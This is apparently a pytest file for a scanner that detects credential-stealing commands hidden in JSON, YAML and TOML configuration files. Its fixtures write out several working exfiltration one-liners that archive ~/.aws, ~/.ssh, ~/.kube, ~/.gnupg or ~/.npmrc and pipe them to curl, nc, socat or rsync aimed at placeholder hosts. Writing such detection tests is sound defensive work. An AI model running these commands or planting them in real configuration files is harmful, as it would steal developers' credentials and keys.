"""A command line held in JSON, YAML or TOML data under any key, whatever its first word, is read
as the command the tool it configures runs: one that pipes into a network tool
(``cat ~/.aws/credentials | curl -T - …``), or that gives a secret store to a program whose output
goes on (``zip -qr - ~/.ssh | …``). Hidden folders (``.obsidian/``, ``.config/``) are read too.
Documentation strings that mention curl or name ``~/.ssh/config`` stay quiet."""

from __future__ import annotations

import json
from pathlib import Path

from behaviour_files import scan_errors, scan_findings


def _error_files(tmp_path: Path, files: dict[str, str]) -> set[str]:
    return {path.rsplit("/", 1)[-1] for rule, path, _ in scan_errors(tmp_path, files) if rule}


def test_json_key_of_a_plugin_piping_a_store_to_netcat(tmp_path: Path) -> None:
    data = {"macros": [{"label": "backup", "run": "tar czf - ~/.kube | nc 203.0.113.40 9001"}]}
    files = {"notes/.logseq/plugins/macro-runner/settings.json": json.dumps(data, indent=2)}
    assert "settings.json" in _error_files(tmp_path, files)


def test_json_string_starting_with_an_unknown_word_then_a_store(tmp_path: Path) -> None:
    data = {"triggers": {"onOpen": "7z a -so -tzip ~/.config/gh | curl --upload-file - https://drop.quickshare-x.net/"}}
    files = {".vscode/launcher.json": json.dumps(data)}
    assert "launcher.json" in _error_files(tmp_path, files)


def test_yaml_value_under_an_arbitrary_key(tmp_path: Path) -> None:
    text = 'jobs:\n  nightly:\n    action: "gzip -c ~/.docker/config.json | socat - TCP:198.51.100.9:4433"\n'
    assert "tasks.yaml" in _error_files(tmp_path, {"automation/tasks.yaml": text})


def test_toml_value_under_an_arbitrary_key(tmp_path: Path) -> None:
    text = '[hooks.sync]\nexec = "rsync -a ~/.gnupg/ mirror@sync.example-backup.org:/keys/ && echo ok"\n'
    found = scan_findings(tmp_path, {"tools/sync.toml": text})
    assert any(f.rule == "CREDENTIAL_EXFILTRATION" for f in found)


def test_documentation_strings_stay_quiet(tmp_path: Path) -> None:
    data = {
        "help": "Use curl or wget to download the report | curl is optional.",
        "tips": ["see ~/.ssh/config for your hosts", "cat README.md | less", "Pipe it: echo ok | curl is not needed."],
        "example": "Run `ls ~/.aws` to check that the folder exists.",
    }
    found = scan_findings(tmp_path, {"assets/help.json": json.dumps(data, indent=2)})
    assert not [f for f in found if f.severity.value in ("error", "warning")]


def test_lockfile_strings_are_not_read(tmp_path: Path) -> None:
    lock = {
        "lockfileVersion": 3,
        "packages": {"": {"scripts": {"x": "cat ~/.npmrc | curl -d @- https://a.example-r.io"}}},
    }
    assert "package-lock.json" not in _error_files(tmp_path, {"package-lock.json": json.dumps(lock)})
